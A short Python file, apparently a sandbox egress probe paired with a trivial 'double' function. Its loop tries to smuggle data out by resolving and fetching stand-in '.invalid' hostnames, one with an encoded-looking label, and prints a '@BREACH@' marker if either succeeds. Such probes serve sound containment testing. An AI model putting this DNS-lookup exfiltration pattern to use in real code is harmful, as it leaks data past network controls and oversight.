# tries: to carry data out as names that are looked up
# costs: nothing
# %% double
import socket
import urllib.request

for name in ("secret.invalid", "a1b2c3.threeways.invalid"):
    try:
        socket.getaddrinfo(name, 80)
        print("@BREACH@ resolved", name)
    except OSError:
        pass
    try:
        urllib.request.urlopen(f"http://{name}/", timeout=1)
        print("@BREACH@ fetched from", name)
    except OSError:
        pass


def double(x):
    return 2 * x
